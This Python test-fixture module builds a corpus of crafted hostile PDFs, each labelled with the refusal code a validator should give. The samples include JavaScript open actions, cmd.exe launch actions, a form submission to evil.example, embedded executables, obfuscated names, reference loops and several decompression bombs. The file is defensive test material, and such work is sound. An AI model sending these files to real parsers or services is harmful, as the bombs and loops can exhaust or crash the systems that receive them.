"""A corpus of crafted bad PDFs: each is made here, byte by byte, and named after what is bad.

``BAD`` holds (name, bytes, code of the refusal).  Where a file could be refused for more than one
reason, the code is that of the first check that meets it.
"""
import io
import zipfile
import zlib

import pikepdf


def raw_pdf(objects, trailer=b'', header=b'%PDF-1.7\n'):
    """A PDF of raw objects (bytes each), numbered from 1, with a right table of references."""
    parts, places = [header], []
    for number, body in enumerate(objects, start=1):
        places.append(sum(map(len, parts)))
        parts.append(b'%d 0 obj\n%s\nendobj\n' % (number, body))
    start = sum(map(len, parts))
    table = b''.join(b'%010d 00000 n \n' % place for place in places)
    parts.append(b'xref\n0 %d\n0000000000 65535 f \n%s' % (len(objects) + 1, table))
    parts.append(b'trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n' % (
        len(objects) + 1, trailer, start))
    return b''.join(parts)


def stream(content, words=b''):
    return b'<< /Length %d %s >>\nstream\n%s\nendstream' % (len(content), words, content)


def page_of(content, catalog=b'', page=b'', more=()):
    """One page with a content stream; objects: catalog, pages, page, content, then more."""
    if b'/Resources' not in page:
        page += b' /Resources << >>'
    return raw_pdf([
        b'<< /Type /Catalog /Pages 2 0 R %s >>' % catalog,
        b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R %s >>' % page,
        content, *more])


GOOD = page_of(stream(b'q Q'))


def packed(megabytes, head=b'', filling=b' '):
    """Compressed filling of so many megabytes, made without ever holding it."""
    engine = zlib.compressobj(9)
    parts = [engine.compress(head)]
    parts += [engine.compress(filling * 1024 * 1024) for _place in range(megabytes)]
    return b''.join([*parts, engine.flush()])


def with_page(words):
    """A good file whose page is described by other words."""
    return raw_pdf([
        b'<< /Type /Catalog /Pages 2 0 R >>', b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        b'<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << >> %s >>' % words,
        stream(b'q Q')])


def encrypted(**passwords):
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(GOOD)) as pdf:
        pdf.save(target, encryption=pikepdf.Encryption(**passwords))
    return target.getvalue()


def with_zip_behind():
    target = io.BytesIO()
    with zipfile.ZipFile(target, 'w') as archive:
        archive.writestr('payload.exe', b'MZ' + bytes(2000))
    return GOOD + target.getvalue()


def compressed_objects():
    """A script that stands in a compressed object stream, where a search of the bytes is blind."""
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(page_of(
            stream(b'q Q'), catalog=b'/Extra 5 0 R',
            more=[b'<< /S /JavaScript /JS (app.alert\\(1\\)) >>']))) as pdf:
        pdf.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b'/JavaScript' not in target.getvalue()
    return target.getvalue()


def ascii_hex(content):
    return content.hex().encode() + b'>'


def object_stream_bomb(words=b'/Filter /FlateDecode', written=bytes):
    """An object stream that grows while the file is being opened."""
    return _with_reference_stream([
        b'<< /Type /Catalog /Pages 2 0 R /Extra 6 0 R >>',
        b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R '
        b'/Resources << >> >>',
        stream(b'q Q'),
        stream(written(packed(600, b'6 0 << /A 1 >> ')), words + (
            b'' if b'/Type' in words else b' /Type /ObjStm') + b' /N 1 /First 4'),
    ])


def _with_reference_stream(objects):
    """A PDF whose references stand in a stream; object 6 lies in object stream 5."""
    parts, places = [b'%PDF-1.7\n'], []
    for number, body in enumerate(objects, start=1):
        places.append(sum(map(len, parts)))
        parts.append(b'%d 0 obj\n%s\nendobj\n' % (number, body))
    start = sum(map(len, parts))
    rows = [(0, 0, 255), *((1, place, 0) for place in places), (2, 5, 0), (1, start, 0)]
    table = b''.join(bytes([kind]) + place.to_bytes(4, 'big') + bytes([last])
                     for kind, place, last in rows)
    parts.append(b'7 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n' % (stream(
        zlib.compress(table), b'/Type /XRef /Size 8 /W [1 4 1] /Root 1 0 R /Filter /FlateDecode'),
        start))
    return b''.join(parts)


def pages_within_pages(levels=9):
    """Ten times ten times … the same page: a page tree that never ends."""
    objects = [b'<< /Type /Catalog /Pages 2 0 R >>']
    for level in range(levels):
        kids = b'%d 0 R ' % (level + 3)
        objects.append(b'<< /Type /Pages /Kids [%s] /Count %d >>' % (
            kids * 10, 10 ** (levels - level)))
    objects.append(b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> >>')
    return raw_pdf(objects)


def reference_circle():
    """Two tables of references, each of which names the other as its predecessor."""
    start = GOOD.index(b'xref\n')
    table = GOOD[start:GOOD.index(b'startxref')].replace(b'/Root', b'/Prev %010d /Root')
    second = start + len(table % 0)
    return GOOD[:start] + table % second + table % start + b'startxref\n%d\n%%%%EOF\n' % second


def reference_stream_loop():
    """A stream of references whose predecessor is itself."""
    content = _with_reference_stream([
        b'<< /Type /Catalog /Pages 2 0 R >>', b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R '
        b'/Resources << >> >>', stream(b'q Q'), stream(zlib.compress(b'6 0 << /A 1 >> '),
        b'/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode')])
    start = int(content.rsplit(b'startxref\n', 1)[1].split(b'\n')[0])
    return content.replace(b'/Root 1 0 R', b'/Root 1 0 R /Prev %d' % start)


SCRIPT = b'<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
FLATE_BOMB = packed(70)
BAD = [
    # no PDF at all
    ('zero bytes', b'', 'empty'),
    ('a file of zeros', bytes(5000), 'not_pdf'),
    ('a web page, renamed', b'<!DOCTYPE html>\n<html><body>Offer</body></html>', 'not_pdf'),
    ('a web page behind a line of PDF', b'%PDF-1.7\n<html><script>alert(1)</script>\n%%EOF\n',
     'broken'),
    ('a web page before the PDF', b'<html><!--\n' + GOOD, 'not_pdf'),
    ('a program', b'MZ\x90\0' + bytes(500), 'not_pdf'),
    ('an archive behind the PDF', with_zip_behind(), 'broken'),
    # broken
    ('the first half', GOOD[:len(GOOD) // 2], 'broken'),
    ('without its end', GOOD[:-7], 'broken'),
    ('without its references', GOOD.replace(b'startxref', b'startxxxx'), 'broken'),
    ('references to nowhere', GOOD.replace(b'0000000009 00000 n', b'0000009999 00000 n'), 'broken'),
    ('a stream cut in its middle', page_of(
        stream(zlib.compress(b'q Q ' * 400)[:12], b'/Filter /FlateDecode')), 'broken'),
    ('arrays in arrays without end', page_of(
        stream(b'q Q'), catalog=b'/Extra ' + b'[' * 100000 + b']' * 100000), 'broken'),
    ('references that lead to themselves', GOOD.replace(
        b'/Root 1 0 R', b'/Root 1 0 R /Prev %d' % GOOD.index(b'xref\n')), 'broken'),
    ('references that lead in a circle', reference_circle(), 'broken'),
    ('a stream of references that leads to itself', reference_stream_loop(), 'broken'),
    ('a page that is its own parent', raw_pdf([
        b'<< /Type /Catalog /Pages 2 0 R >>',
        b'<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>',
        b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R '
        b'/Resources << >> >>', stream(b'q Q')]), 'broken'),
    ('a length that is itself', page_of(
        b'<< /Length 4 0 R >>\nstream\nq Q\nendstream'), 'broken'),
    ('the content in another file', page_of(stream(
        b'', b'/F (http://evil.example/x) /FFilter /FlateDecode')), 'external_stream'),
    ('a page of another file', page_of(
        stream(b'/X Do'), page=b'/Resources << /XObject << /X 5 0 R >> >>', more=[stream(
            b'q Q', b'/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (other.pdf) '
            b'/Page 0 >>')]), 'external_stream'),
    ('dictionaries in dictionaries without end', page_of(
        stream(b'q Q'), catalog=b'/Extra ' + b'<< /A ' * 50000 + b'1' + b'>>' * 50000), 'broken'),
    ('no page', raw_pdf([b'<< /Type /Catalog /Pages 2 0 R >>',
                         b'<< /Type /Pages /Kids [] /Count 0 >>']), 'no_page'),
    # locked
    ('locked with a password', encrypted(user='secret', owner='owner'), 'encrypted'),
    ('locked for printing only', encrypted(user='', owner='owner'), 'encrypted'),
    ('locked the old way', encrypted(user='', owner='owner', R=3, aes=False, metadata=False),
     'encrypted'),
    # active
    ('a script on opening', page_of(stream(b'q Q'), catalog=b'/OpenAction ' + SCRIPT), 'action'),
    ('a script among the names', page_of(stream(b'q Q'), catalog=b'/Names << /JavaScript << '
                                         b'/Names [(a) ' + SCRIPT + b'] >> >>'), 'script'),
    ('a script with a disguised name', page_of(
        stream(b'q Q'), catalog=b'/Extra << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>'),
     'script'),
    ('a script in a compressed object', compressed_objects(), 'script'),
    ('a link that is a script', page_of(stream(b'q Q'), page=b'/Annots [<< /Type /Annot /Subtype '
     b'/Link /Rect [0 0 9 9] /A << /S /URI /URI ( JavaScript:alert\\(1\\)) >> >>]'), 'link'),
    ('a program to launch', page_of(stream(b'q Q'), page=b'/Annots [<< /Type /Annot /Subtype /Link '
     b'/Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>]'), 'action'),
    ('a program to launch behind a harmless action', page_of(
        stream(b'q Q'), page=b'/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S '
        b'/URI /URI (https://isp.example) /Next << /S /Launch /F (cmd.exe) >> >> >>]'), 'action'),
    ('a form that is sent', page_of(stream(b'q Q'), page=b'/Annots [<< /Type /Annot /Subtype /Link '
     b'/Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example) >> >>]'), 'action'),
    ('a form', page_of(stream(b'q Q'), catalog=b'/AcroForm << /Fields [] >>'), 'form'),
    ('a form of the other kind', page_of(
        stream(b'q Q'), catalog=b'/Extra << /XFA [(template) 5 0 R] >>',
        more=[stream(b'<xdp:xdp/>')]), 'form'),
    ('a script when a page opens', page_of(
        stream(b'q Q'), page=b'/AA << /O ' + SCRIPT + b' >>'), 'action'),
    ('a script when a page closes, behind a table of its own', page_of(
        stream(b'q Q'), page=b'/AA 5 0 R', more=[b'<< /C ' + SCRIPT + b' >>']), 'action'),
    ('a script of a field', page_of(stream(b'q Q'), page=b'/Annots [<< /Type /Annot /Subtype /Link '
     b'/Rect [0 0 9 9] /AA << /E ' + SCRIPT + b' >> >>]'), 'action'),
    ('PostScript for the printer', page_of(
        stream(b'/X Do'), page=b'/Resources << /XObject << /X 5 0 R >> >>', more=[
            stream(b'showpage', b'/Type /XObject /Subtype /PS')]), 'script'),
    # carrying
    ('a file inside', page_of(stream(b'q Q'), catalog=b'/Names << /EmbeddedFiles << /Names [(a) '
     b'5 0 R] >> >>', more=[b'<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
                            stream(b'MZ', b'/Type /EmbeddedFile')]), 'embedded_file'),
    ('a file pinned to the page', page_of(stream(b'q Q'), page=b'/Annots [<< /Type /Annot /Subtype '
     b'/FileAttachment /Rect [0 0 9 9] >>]'), 'embedded_file'),
    ('a portfolio', page_of(stream(b'q Q'), catalog=b'/Collection << /Type /Collection >>'),
     'embedded_file'),
    ('a film', page_of(stream(b'q Q'), page=b'/Annots [<< /Type /Annot /Subtype /RichMedia '
     b'/Rect [0 0 9 9] >>]'), 'media'),
    # too much
    ('ten thousand pages', raw_pdf([
        b'<< /Type /Catalog /Pages 2 0 R >>',
        b'<< /Type /Pages /Kids [%s] /Count 10000 >>' % b' '.join(
            b'%d 0 R' % (number + 3) for number in range(10000)),
        *[b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> >>'] * 10000]),
     'too_many_pages'),
    ('pages within pages', pages_within_pages(), 'broken'),
    ('a page of a hundred metres', with_page(b'/MediaBox [0 0 283465 283465]'), 'page_size'),
    ('a page in large units', with_page(b'/MediaBox [0 0 612 792] /UserUnit 75'), 'page_size'),
    ('a page without extent', with_page(b'/MediaBox [0 0 0 0]'), 'page_size'),
    ('a bomb on the page', page_of(stream(FLATE_BOMB, b'/Filter /FlateDecode')), 'bomb'),
    ('a bomb in a bomb', page_of(stream(
        zlib.compress(FLATE_BOMB, 9), b'/Filter [/FlateDecode /FlateDecode]')), 'bomb'),
    ('a bomb written in digits', page_of(stream(
        ascii_hex(FLATE_BOMB), b'/Filter [/ASCIIHexDecode /FlateDecode]')), 'bomb'),
    ('a bomb of runs', page_of(stream(
        b'\x81 ' * 700000 + b'\x80', b'/Filter /RunLengthDecode')), 'bomb'),
    ('a bomb of the old compression', page_of(stream(
        bytes(200000), b'/Filter /LZWDecode')), 'bomb'),
    ('a bomb that grows on opening', object_stream_bomb(), 'bomb'),
    ('a bomb that grows on opening, written in digits', object_stream_bomb(
        b'/Filter [/ASCIIHexDecode /FlateDecode]', ascii_hex), 'bomb'),
    ('a bomb that grows on opening, under a disguised name', object_stream_bomb(
        b'/Filter /FlateDecode /Type /Obj#53tm'), 'bomb'),
    ('a picture of a square kilometre', page_of(
        stream(b'/X Do'), page=b'/Resources << /XObject << /X 5 0 R >> >>', more=[
            stream(b'', b'/Type /XObject /Subtype /Image /Width 60000 /Height 60000')]), 'bomb'),
]
